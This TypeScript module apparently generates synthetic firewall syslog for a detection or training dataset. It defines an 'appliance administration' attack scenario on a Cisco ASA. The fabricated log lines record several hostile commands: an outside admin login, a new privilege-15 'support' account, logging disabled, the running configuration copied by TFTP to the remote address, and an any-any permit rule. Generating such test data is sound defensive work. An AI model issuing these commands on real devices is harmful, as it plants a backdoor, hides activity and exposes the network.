import { syslogRow } from "../../rows/network.ts";
import { type Attack, address, host } from "../attack.ts";

/** The firewall is administered from the internet: a login, a new administrator, logging off, the configuration copied out. */
export const applianceAdministration: Attack = {
  kind: "appliance administration",
  hours: 2,
  plan: (scene) => {
    const { at } = scene;
    const from = scene.address();
    const line = { host: "edge-asa-01", process: "%ASA", facility: "local4" };
    const messages = [
      `%ASA-6-605005: Login permitted from ${from}/51544 to outside:198.51.100.10/https for user "netadmin"`,
      `%ASA-5-111008: User 'netadmin' executed the 'username support privilege 15' command.`,
      `%ASA-5-111010: User 'netadmin', running 'CLI' from IP ${from}, executed 'no logging enable'`,
      `%ASA-5-111010: User 'netadmin', running 'CLI' from IP ${from}, executed 'copy running-config tftp://${from}/c.cfg'`,
      `%ASA-5-111010: User 'netadmin', running 'CLI' from IP ${from}, executed 'access-list outside_in extended permit ip any any'`,
    ];
    return {
      subjects: [host("edge-asa-01"), address(from)],
      types: ["privilege_escalation", "account_compromise", "policy_violation", "sabotage"],
      rows: messages.map((message, index) => syslogRow({ ...line, level: "notice", at: at(index * 2), message })),
    };
  },
};
